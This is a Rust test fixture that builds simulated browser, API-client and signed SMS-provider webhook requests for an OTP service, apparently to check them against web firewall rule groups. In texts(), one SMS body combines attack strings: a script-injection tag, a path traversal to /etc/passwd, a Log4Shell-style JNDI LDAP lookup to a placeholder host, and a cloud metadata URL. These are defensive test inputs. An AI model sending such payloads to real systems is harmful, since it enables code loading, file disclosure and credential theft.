//! Requests as browsers, applications and providers send them.

use contract::{Caller, ROUTES, Route};
use domain::sms::{self, Key, Recipient, Sms};

use super::evaluate::Request;
use super::{ANONYMOUS, BAD_INPUTS, COMMON, REPUTATION};

/// From somebody at home, with a browser.
pub fn request(path: &str) -> Request {
    Request {
        path: path.to_owned(),
        headers: vec![("User-Agent".to_owned(), "Mozilla/5.0".to_owned())],
        body: b"{}".to_vec(),
        country: "DE",
        hits: Vec::new(),
        times: 1,
    }
}

pub fn hit(path: &str, hits: &[&str]) -> Request {
    Request { hits: hits.iter().map(|&hit| hit.to_owned()).collect(), ..request(path) }
}

pub fn often(path: &str, times: u64) -> Request {
    Request { times, ..request(path) }
}

/// A program with a client key on a rented machine in another country, which doesn't say what it is.
pub fn application(path: &str) -> Request {
    let key = "Bearer otpost.shop.q83vEjRWeJASNFZ4kBI0VniQEjRWeJASNFZ4kBI0Vng";
    Request {
        headers: vec![("Authorization".to_owned(), key.to_owned())],
        country: "US",
        hits: [&format!("{REPUTATION}/*"), &format!("{ANONYMOUS}/HostingProviderIPList")]
            .into_iter()
            .chain([&format!("{COMMON}/NoUserAgent_HEADER")])
            .cloned()
            .collect(),
        times: 900,
        ..request(path)
    }
}

/// A provider's request, and the worst that every group could think of it.
fn text(provider: &dyn sms::Provider, text: &str, person: Option<&str>) -> Request {
    let secret = match provider.name() {
        // RFC 8032, 7.1, test 1.
        "telnyx" => "nWGxne/9WmC6hEr0kuwsxERJxWl7MmkZcDusAxyuf2A=",
        "sinch" => "ada:0123456789abcdef",
        _ => "0123456789abcdef",
    };
    let message = Sms {
        id: "SM0123456789abcdef0123456789abcdef".to_owned(),
        sender: "BANK".to_owned(),
        recipient: Recipient::Number("+447700900123".to_owned()),
        text: text.to_owned(),
        part: None,
        received_at: None,
    };
    let end = person.map_or_else(String::new, |person| format!("/{person}"));
    let url = format!("https://otp.example.com/v1/sms/{}{end}", provider.name());
    let signed = provider.sign(&message, secret, &url, 1_800_000_000).unwrap();
    let headers = signed.headers.into_iter().map(|(name, value)| (name.to_owned(), value));
    Request {
        path: signed.url.strip_prefix("https://otp.example.com").unwrap().to_owned(),
        headers: headers.collect(),
        body: signed.body,
        country: "US",
        hits: [REPUTATION, ANONYMOUS, COMMON, BAD_INPUTS].map(|group| format!("{group}/*")).into(),
        times: 200,
    }
}

pub fn texts() -> Vec<Request> {
    let by_http = sms::ALL.into_iter().filter(|provider| provider.key() != Key::Events);
    let codes = [
        "Your code is 482913",
        "<script>alert(1)</script> ../../etc/passwd ${jndi:ldap://192.0.2.1/a} http://169.254.169.254/ 482913",
    ];
    let mut texts = Vec::new();
    for provider in by_http {
        texts.extend(codes.map(|code| text(provider, code, None)));
    }
    for name in ["android", "bird"] {
        texts.push(text(sms::named(name).unwrap(), codes[0], Some("alice")));
    }
    texts
}

pub fn path(route: &Route) -> String {
    let segments = route.path.split('/').map(|part| if part.starts_with('{') { "0123abcd" } else { part });
    segments.collect::<Vec<_>>().join("/")
}

pub fn of(caller: Caller) -> Vec<String> {
    ROUTES.iter().filter(|route| route.caller() == caller).map(path).collect()
}
